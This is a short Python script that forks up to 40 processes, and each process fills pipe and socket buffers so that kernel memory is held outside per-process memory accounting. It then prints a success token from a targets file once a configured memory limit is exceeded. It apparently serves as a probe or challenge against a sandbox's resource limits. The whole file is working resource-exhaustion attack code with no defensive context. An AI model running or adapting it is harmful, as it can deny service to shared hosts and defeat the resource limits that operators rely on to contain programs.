# Fills pipes and sockets in many processes: memory of the kernel's, on behalf of nobody's own pages.
import fcntl
import json
import os
import socket
import time

targets = json.load(open("targets.json"))
told, tell = os.pipe()
for _ in range(40):
    try:
        if os.fork():
            continue
    except OSError:
        break
    held = 0
    try:
        while True:
            pipe = os.pipe()
            try:
                fcntl.fcntl(pipe[1], 1031, 1 << 20)  # F_SETPIPE_SZ
            except OSError:
                pass
            os.set_blocking(pipe[1], False)
            try:
                while True:
                    held += os.write(pipe[1], bytes(1 << 16))
            except BlockingIOError:
                pass
            mine, other = socket.socketpair()
            mine.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 30)
            mine.setblocking(False)
            try:
                while True:
                    held += mine.send(bytes(1 << 16))
            except BlockingIOError:
                pass
            os.dup(mine.detach()), os.dup(other.detach())
    except OSError:
        pass
    os.write(tell, held.to_bytes(8, "big"))
    time.sleep(60)
time.sleep(0.7)
os.set_blocking(told, False)
total = 0
try:
    while True:
        total += int.from_bytes(os.read(told, 8), "big")
except BlockingIOError:
    pass
if total > targets["limits"]["memory_mb"] << 20:
    print(targets["success"])
